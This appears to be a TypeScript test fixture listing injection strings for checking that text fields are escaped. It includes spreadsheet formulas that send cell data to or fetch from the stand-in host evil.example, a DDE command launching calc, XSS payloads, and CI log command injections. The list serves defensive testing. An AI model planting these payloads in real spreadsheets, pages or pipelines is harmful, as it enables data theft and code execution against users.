/**
 * Texts that try to be more than text, somewhere. None holds another, so that each can be counted; none is longer than
 * the shortest field that people write in.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Formulas.
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Бағдарлама")',
  "=cmd|' /C calc'!A0",
  '+2+2',
  '-3-3',
  '@SUM(A1:A9)',
  '\t=4+4',
  '\n=5+5',
  '＝6+6',
  "'=7+7",
  'DDE("excel";"x";"y")',
  '=IMPORTXML("http://evil.example","//a")',
  // What spreadsheets take for numbers, days and truth.
  '1e308',
  '0001234',
  '10:31',
  '2031-05-09',
  'TRUE',
  '#N/A',
  'NaN',
  // Escapes and ends of XML and of Office's own.
  '_x000D_ үзік',
  ']]><x>жыртық</x>',
  '&#10;&lt;b&gt;',
  '<w:fldSimple w:instr="DATE"/>',
  '{PAGE} {{өріс}} CURRENT',
  'TOTAL_PAGES',
  '&P &N &"Arial"&D',
  // HTML.
  '<script>document.title="x"</script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus='alert(2)' autofocus='",
  '</style><style>*{display:none}</style>',
  '--><svg onload=alert(3)><!--',
  '<a href="javascript:alert(4)">x</a>',
  // Markdown.
  '[сілтеме](http://evil.example/a)',
  '![сурет](http://evil.example/b.png)',
  '| ұяшық | `код` | \\| |',
  '# Тақырып\n\n---\n\n* тізім',
  '**қалың** __асты__ ~~сызық~~ $x$',
  '<https://evil.example/c>',
  'https://evil.example/d www.evil.example xmpp:a',
  '[^1] [x]: http://evil.example/e',
  ':warning: @team #12 GH-12',
  '```\nкод\n```',
  // Calendars.
  'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:жалған',
  'ATTACH;FMTTYPE=text/html:http://evil.example/f;a,b',
  // Reports and logs.
  '::error file=a,line=1::жалған',
  '##[error]жалған2',
  '##vso[task.setvariable variable=a]b',
  '%0A::set-output name=a::b%25',
  '[жазба](0) {0} {1}',
  // Templates and YAML.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it is
  '{file} ${x} #{y} <%= z %>',
  '- тізім: &a *a !!js/function',
  '---\n...\n%YAML 1.1',
  '0x1F',
  '{"json": "\\u0000"}',
  // Letters that are hard to set.
  `е${'\u0301'.repeat(90)}`,
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿𝔘𐍈',
  'עברית العربية ұзын',
  `${'ұзынсөз'.repeat(13)}`,
  'нөл\u200bені\u00a0сөз\u2060',
  ' шетінде бос орын ',
];
